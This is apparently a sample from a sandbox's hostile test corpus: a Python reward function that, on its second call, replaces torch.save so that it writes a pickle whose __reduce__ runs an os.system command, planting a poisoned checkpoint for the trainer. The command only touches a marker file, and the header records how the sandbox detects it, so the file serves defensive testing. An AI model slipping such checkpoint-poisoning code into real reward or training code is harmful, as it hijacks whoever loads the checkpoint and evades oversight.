# ruff: noqa
# Deliberately hostile reward code for the sandbox's corpus (tests/hostile/test_hostile_corpus.py).
# attack: replace torch.save and plant a pickle for the trainer (issue)
# class: pickle
# static: forbidden import of 'pickle'
# dynamic: contained
import torch

CALLS = [0]


def compute_reward(state, action):
    CALLS[0] += 1
    x = state["cart_pos"] * 1.0
    if CALLS[0] == 2:
        import pickle, os

        class P:
            def __reduce__(self):
                return (os.system, ("touch /tmp/rewardlab-pwned-pk3",))

        torch.save = lambda obj, f, *a, **k: open(f, "wb").write(pickle.dumps(P()))
        torch.save({}, "/tmp/checkpoint.pt")
    return x, {"x": x}
